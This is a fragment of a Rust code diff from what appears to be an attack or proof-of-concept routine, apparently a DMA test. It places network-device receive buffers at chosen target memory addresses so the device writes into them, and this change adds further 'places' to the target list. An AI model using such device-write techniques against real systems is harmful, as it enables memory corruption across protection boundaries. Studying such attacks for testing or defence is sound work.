@@ -60,7 +60,8 @@ pub fn attack() {
         tries += 1;
     }
     // Receive buffers at the targets, a few at a time, and frames to fill them.
-    for address in super::targets().step_by(16) {
+    let places = super::PLACES.iter().map(|place| place.1);
+    for address in places.chain(super::targets().step_by(16)) {
         let buffer = Buffer { address, len: 2048, device_writes: true };
         if nic.rx.queue.add(&[buffer]).is_err() {
             break;
@@ -103,8 +104,7 @@ fn ask_for_address(nic: &mut Nic, head: SharedMem) {
     frame[28..32].copy_from_slice(&[10, 0, 2, 15]);
     frame[38..42].copy_from_slice(&[10, 0, 2, 2]);
     head.copy_to(0, &bytes).expect("within the buffer");
-    let buffer =
-        Buffer { address: head.address(), len: bytes.len() as u32, device_writes: false };
+    let buffer = Buffer { address: head.address(), len: bytes.len() as u32, device_writes: false };
     if nic.tx.queue.add(&[buffer]).is_ok() {
         nic.tx.kick();
         finish(&mut nic.tx);
